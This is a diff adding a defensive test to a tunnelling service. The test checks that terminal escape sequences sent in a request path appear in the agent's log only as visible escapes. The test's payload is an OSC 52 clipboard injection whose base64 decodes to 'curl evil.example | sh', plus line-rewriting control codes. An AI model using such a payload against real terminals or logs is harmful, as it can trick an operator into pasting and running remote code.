@@ -75,3 +75,20 @@ def test_rewrite_gives_the_local_service_one_true_x_forwarded_host(tunnel: Tunne
     agent.wait_for(r"^GET /echo 200 ")
     assert not [line for line in agent.lines if re.search(re.escape(token), line)]
     agent.stop()
+
+
+def test_terminal_escapes_in_a_path_reach_the_log_only_as_visible_escapes(tunnel: Tunnel) -> None:
+    # API Gateway hands the function rawPath percent-decoded: %1B is a real ESC at the agent.
+    # OSC 52 sets the clipboard (to base64 "curl evil.example | sh"); CSI 2K and CR rewrite the
+    # line. The log line shows each as an escape; the query, sent encoded, stays encoded.
+    token = tunnel.token("safety-escape")
+    agent = tunnel.agent(token)
+    agent.wait_for(r"^Forwarding ")
+    osc52 = "%1B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==%07"
+    status, _, _ = tunnel.request("safety-escape", "GET", f"/{osc52}x%C2%9B2K%0D?q=%1B%5B2K")
+    assert status == 200
+    agent.wait_for(
+        r"^GET /\\x1b\]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07x\\x9b2K\\x0d\?q=%1B%5B2K 200 "
+    )
+    assert not [line for line in agent.lines if re.search("[\x00-\x1f\x7f-\x9f]", line)]
+    agent.stop()
